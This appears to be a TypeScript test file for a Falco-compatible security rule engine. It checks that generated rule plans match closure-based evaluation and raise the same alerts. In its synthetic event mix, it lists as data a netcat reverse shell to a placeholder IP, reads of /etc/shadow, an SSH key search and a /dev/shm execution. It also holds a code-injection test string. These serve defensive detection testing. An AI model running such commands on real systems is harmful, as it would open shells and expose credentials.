// Generated rule plans (condition/generated.ts: one function per event type, fields read once per
// event, shared macros evaluated once per event) against the planner's closures: the same matches
// on random conditions over random field values (missing ones included), every field read at most
// once per event, and the same alerts from Falco's three rule files over the recorded capture
// fixture and a synthetic mix on live state.

import { describe, expect, test } from "bun:test";
import { resolve } from "node:path";
import { Pipeline } from "../../agent/agent/pipeline.ts";
import { CaptureReader } from "../../agent/capturefile/index.ts";
import type { Event } from "../../agent/events/index.ts";
import { Logger } from "../../agent/log.ts";
import type { Alert } from "../../agent/outputs/index.ts";
import { generatePlan } from "../../agent/rules/condition/generated.ts";
import { decideForEventType, type FieldBinder } from "../../agent/rules/condition/plan.ts";
import { type EngineOptions, RuleEngine } from "../../agent/rules/engine.ts";
import type { FieldValue } from "../../agent/rules/fields/values.ts";
import { liveBinder, liveEventKey, liveText } from "../../agent/rules/live.ts";
import { loadRuleSources } from "../../agent/rules/load/load.ts";
import { parseSnapshot, restoreState, StateTracker, UserTable } from "../../agent/state/index.ts";
import { type MixProgram, processMix } from "./process-mix.ts";

type Ctx = Map<string, FieldValue>;
const OPTIONS: EngineOptions = { minPriority: "Debug", matching: "all", selection: [] };
const ROOT = resolve(import.meta.dir, "../..");
const FALCO = resolve(ROOT, "../shared/falco-rules");

/** A small deterministic generator (xorshift), so a failure reproduces. */
function random(seed: number) {
  let s = seed >>> 0 || 1;
  const next = () => {
    s ^= s << 13;
    s >>>= 0;
    s ^= s >>> 17;
    s ^= s << 5;
    s >>>= 0;
    return s / 2 ** 32;
  };
  return { next, pick: <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)] };
}

const NAMES = ["sh", "bash", "Cat", "nginx"];
const PATHS = ["/etc/shadow", "/etc/passwd", "/tmp/x", "/dev/null"];

/** A random comparison on the fields of the random contexts, of every planned shape. */
function randomCompare(r: ReturnType<typeof random>, cachedOnly: boolean): string {
  const shape = Math.floor(r.next() * 12);
  // Transformers, ancestor fields and val() run as the planner's closures, outside the cache.
  if (cachedOnly && shape >= 7 && shape <= 9) return `proc.name = ${r.pick(NAMES)}`;
  switch (shape) {
    case 0:
      return `proc.name = ${r.pick(NAMES)}`;
    case 1:
      return `proc.name in (${r.pick(NAMES)}, ${r.pick(NAMES)})`;
    case 2:
      return `fd.name startswith ${r.pick(["/etc", "/tmp", "/dev"])}`;
    case 3:
      return `fd.name exists`;
    case 4:
      return `evt.is_open_read = ${r.pick(["true", "false"])}`;
    case 5:
      return `proc.pid > ${Math.floor(r.next() * 10)}`;
    case 6:
      return `evt.type in (${r.pick(["open", "openat", "execve"])}, ${r.pick(["connect", "openat"])})`;
    case 7:
      return `tolower(proc.name) = ${r.pick(["cat", "sh"])}`;
    case 8:
      return `proc.aname contains ${r.pick(["sh", "init"])}`;
    case 9:
      return `proc.name = val(proc.pname)`;
    case 10:
      return `fd.name pmatch (/etc, /dev)`;
    default:
      return `evt.type = ${r.pick(["openat", "execve"])}`;
  }
}

function randomCondition(
  r: ReturnType<typeof random>,
  depth: number,
  macros: string[],
  cachedOnly: boolean,
): string {
  const roll = r.next();
  if (depth === 0 || roll < 0.3) return randomCompare(r, cachedOnly);
  if (roll < 0.45 && macros.length > 0) return r.pick(macros);
  if (roll < 0.6) return `not ${randomCondition(r, depth - 1, macros, cachedOnly)}`;
  const n = 2 + Math.floor(r.next() * 3);
  const parts = Array.from({ length: n }, () => randomCondition(r, depth - 1, macros, cachedOnly));
  return `(${parts.join(r.next() < 0.5 ? " and " : " or ")})`;
}

function randomRules(seed: number, cachedOnly = false): string {
  const r = random(seed);
  const macros: string[] = [];
  let text = "";
  for (let m = 0; m < 4; m++) {
    const name = `m${m}`;
    text += `- macro: ${name}\n  condition: ${randomCondition(r, 2, macros, cachedOnly)}\n`;
    macros.push(name);
  }
  for (let i = 0; i < 8; i++)
    text += `- rule: r${i}\n  desc: d\n  condition: ${randomCondition(r, 3, macros, cachedOnly)}\n  output: "%proc.name"\n  priority: WARNING\n`;
  return text;
}

function randomContext(r: ReturnType<typeof random>): Ctx {
  const ctx: Ctx = new Map();
  ctx.set("evt.type", r.pick(["open", "openat", "execve", "connect"]));
  const maybe = (key: string, value: FieldValue) => {
    if (r.next() < 0.8) ctx.set(key, value);
  };
  maybe("proc.name", r.pick(NAMES));
  maybe("proc.pname", r.pick(NAMES));
  maybe("fd.name", r.pick(PATHS));
  maybe("evt.is_open_read", r.next() < 0.5);
  maybe("proc.pid", Math.floor(r.next() * 10));
  maybe("proc.aname", r.pick([[], ["sh", "init"], ["bash"]]));
  return ctx;
}

function countingBinder() {
  const reads = new Map<string, number>();
  const bind: FieldBinder<Ctx> = (field) => (ctx) => {
    reads.set(field.display, (reads.get(field.display) ?? 0) + 1);
    return ctx.get(field.display);
  };
  return { bind, reads };
}

function fire(engine: RuleEngine<Ctx>, ctx: Ctx): string[] {
  const out: string[] = [];
  engine.evaluate(ctx.get("evt.type") as string, ctx, (r) => out.push(r.rule.name));
  return out;
}

function load(sources: { name: string; text: string }[]) {
  const { ruleset, diagnostics } = loadRuleSources(sources);
  expect(diagnostics.items.filter((d) => d.severity === "error").map((d) => d.message)).toEqual([]);
  return ruleset;
}

describe("generated rule plans", () => {
  test("random conditions: the same matches as the planner's closures, typed and untyped", () => {
    let matches = 0;
    for (let seed = 1; seed <= 60; seed++) {
      const ruleset = load([{ name: `random-${seed}.yaml`, text: randomRules(seed) }]);
      const engines = [
        { planPerEventType: true, generated: true },
        { planPerEventType: true, generated: false },
        { planPerEventType: false },
      ].map(
        (o) => new RuleEngine<Ctx>(ruleset, { ...OPTIONS, ...o }, countingBinder().bind, undefined, (c) => c),
      );
      const r = random(seed * 7919);
      for (let i = 0; i < 60; i++) {
        const ctx = randomContext(r);
        const [generated, closures, untyped] = engines.map((e) => fire(e, ctx));
        expect(generated).toEqual(closures);
        expect(generated).toEqual(untyped);
        matches += generated.length;
      }
    }
    // The random rules both match and miss.
    expect(matches).toBeGreaterThan(500);
    expect(matches).toBeLessThan(60 * 60 * 8);
  });

  test("matching first: only the first match is reported, as with closures", () => {
    const ruleset = load([{ name: "r.yaml", text: randomRules(3) }]);
    const first = { ...OPTIONS, matching: "first" as const, planPerEventType: true };
    const generated = new RuleEngine<Ctx>(ruleset, first, countingBinder().bind, undefined, (c) => c);
    const closures = new RuleEngine<Ctx>(
      ruleset,
      { ...first, generated: false },
      countingBinder().bind,
      undefined,
      (c) => c,
    );
    const r = random(11);
    let firstMatches = 0;
    for (let i = 0; i < 200; i++) {
      const ctx = randomContext(r);
      const got = fire(generated, ctx);
      expect(got.length).toBeLessThanOrEqual(1);
      expect(got).toEqual(fire(closures, ctx));
      firstMatches += got.length;
    }
    expect(firstMatches).toBeGreaterThan(20);
    expect(generated.active.map((a) => a.matches)).toEqual(closures.active.map((a) => a.matches));
  });

  test("each field is read at most once an event, however many rules and macros test it", () => {
    for (let seed = 1; seed <= 30; seed++) {
      const ruleset = load([{ name: "r.yaml", text: randomRules(seed, true) }]);
      const { bind, reads } = countingBinder();
      const engine = new RuleEngine<Ctx>(
        ruleset,
        { ...OPTIONS, planPerEventType: true },
        bind,
        undefined,
        (c) => c,
      );
      const r = random(seed);
      for (let i = 0; i < 40; i++) {
        const ctx = randomContext(r);
        reads.clear();
        fire(engine, ctx);
        for (const n of reads.values()) expect(n).toBe(1);
        reads.clear();
      }
    }
  });

  test("the generated text holds indices only, never rule text; decided rules are left out", () => {
    const text = `
- rule: exec only
  desc: d
  condition: evt.type = execve and proc.name = "x'); throw 1; ('"
  output: "%proc.name"
  priority: WARNING
- rule: any type
  desc: d
  condition: proc.name = sh or evt.type = openat
  output: "%proc.name"
  priority: WARNING
`;
    const rules = load([{ name: "r.yaml", text }]).rules;
    const plan = generatePlan<Ctx>(
      rules.map((r) => r.condition),
      countingBinder().bind,
      (cmp) => decideForEventType(cmp, "openat"),
    );
    expect(plan.kept).toEqual([1]);
    expect(plan.source).not.toContain("throw");
    expect(plan.source).not.toContain("sh");
    let hits = 0;
    plan.run(new Map(), () => {
      hits++;
      return false;
    });
    expect(hits).toBe(1); // `or evt.type = openat` is decided true on openat
  });

  test("Falco's three rule files: the same alerts over the recorded fixture and a synthetic mix", async () => {
    const sources = await Promise.all(
      ["falco_rules.yaml", "falco-sandbox_rules.yaml", "falco-incubating_rules.yaml"].map(async (f) => ({
        name: `${FALCO}/${f}`,
        text: await Bun.file(`${FALCO}/${f}`).text(),
      })),
    );
    const ruleset = load(sources);
    const quiet = new Logger("emergency", true);
    const reader = new CaptureReader(resolve(ROOT, "test/fixtures/actions-v1.lcap"));
    const batches: { frames: Uint8Array; count: number }[] = [];
    for (let b = reader.nextRecords(); b !== undefined; b = reader.nextRecords())
      batches.push({ frames: b.frames.slice(), count: b.count });
    const snapshot = parseSnapshot(reader.snapshot);
    reader.close();
    const runs = [true, false].map((generated) => {
      const engine = new RuleEngine(
        ruleset,
        { ...OPTIONS, planPerEventType: true, generated },
        liveBinder,
        liveText,
        liveEventKey,
      );
      const alerts: string[] = [];
      const publish = (a: Alert) => alerts.push(`${a.rule}|${a.message}|${JSON.stringify(a.outputFields)}`);
      const pipeline = new Pipeline({
        engine,
        state: restoreState(snapshot, {
          processCapacity: 4096,
          host: { hostname: "t", clock: { offsetSec: 0, offsetNsec: 0 } },
        }),
        outputs: { publish },
        log: quiet,
        hostname: "t",
      });
      for (const b of batches) pipeline.onFrames(b.frames, b.count);
      // A synthetic mix on live state after it: execs and opens that Falco's rules match.
      const tracker = new StateTracker({
        processCapacity: 1024,
        users: UserTable.load("/"),
        host: { hostname: "t", clock: { offsetSec: 1_700_000_000, offsetNsec: 0 } },
        pathBases: { cwd: () => "/", fdPath: () => undefined },
      });
      for (const e of syntheticMix()) {
        const ctx = tracker.apply(e);
        engine.evaluate(e.kind, ctx, (r) => alerts.push(`${e.num} ${r.rule.name} ${r.output.text(ctx)}`));
      }
      return { alerts, events: pipeline.stats().events };
    });
    expect(runs[0].events).toBeGreaterThan(100);
    expect(runs[0].alerts.length).toBeGreaterThan(50);
    expect(runs[0].alerts).toEqual(runs[1].alerts);
  });
});

function syntheticMix(): Event[] {
  const programs: MixProgram[] = [
    ["bash", "/bin/bash", ["-i"]],
    ["cat", "/usr/bin/cat", ["/etc/shadow"]],
    ["nc", "/usr/bin/nc", ["-e", "/bin/sh", "1.2.3.4", "4444"]],
    ["find", "/usr/bin/find", ["/", "-name", "id_rsa"]],
    ["sh", "/dev/shm/x", []],
    ["curl", "/usr/bin/curl", ["http://x"]],
  ];
  const paths = ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/tmp/x", "/etc/pam.d/sshd", "/dev/null"];
  return processMix(programs, paths, 120);
}
